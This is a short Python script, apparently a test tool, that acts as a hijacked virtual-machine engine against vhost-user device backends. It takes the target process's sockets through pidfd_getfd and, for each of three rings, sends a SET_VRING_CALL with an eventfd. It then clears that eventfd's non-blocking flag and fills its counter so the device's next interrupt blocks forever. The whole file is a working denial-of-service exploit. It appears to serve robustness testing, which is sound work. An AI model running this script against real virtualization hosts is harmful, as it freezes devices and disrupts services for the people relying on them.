"""Does what a guest's kernel could do that has taken its engine over: hands each device an eventfd to
interrupt it by, takes O_NONBLOCK away from it behind the device's back, and fills the counter, so that
the next interrupt would wait for ever. Needs the right to take descriptors of the process.

hostile_engine.py PID SOCKET: SOCKET is the end of a device's socket path.
"""
import array
import ctypes
import fcntl
import os
import socket
import struct
import sys
import time

PIDFD_OPEN, PIDFD_GETFD = 434, 438
SET_VRING_CALL, VERSION = 13, 1
libc = ctypes.CDLL(None, use_errno=True)


def sockets(pid):
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    for name in os.listdir(f"/proc/{pid}/fd"):
        fd = libc.syscall(PIDFD_GETFD, pidfd, int(name), 0)
        if fd < 0:
            continue
        try:
            yield socket.socket(fileno=fd)
        except OSError:
            os.close(fd)


def attack(device):
    for ring in range(3):
        event = os.eventfd(0, 0)
        message = struct.pack("<IIIQ", SET_VRING_CALL, VERSION, 8, ring)
        try:
            device.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [event]))])
        except OSError:
            return  # it has closed the connection
        time.sleep(0.05)
        fcntl.fcntl(event, fcntl.F_SETFL, fcntl.fcntl(event, fcntl.F_GETFL) & ~os.O_NONBLOCK)
        os.write(event, struct.pack("<Q", 0xFFFFFFFFFFFFFFFE))


pid, wanted = int(sys.argv[1]), sys.argv[2]
attacked = 0
for candidate in sockets(pid):
    try:
        peer = candidate.getpeername()
    except OSError:
        continue
    if isinstance(peer, bytes):
        peer = peer.decode(errors="replace")
    if isinstance(peer, str) and peer.endswith(wanted):
        attack(candidate)
        attacked += 1
sys.exit(0 if attacked else 3)
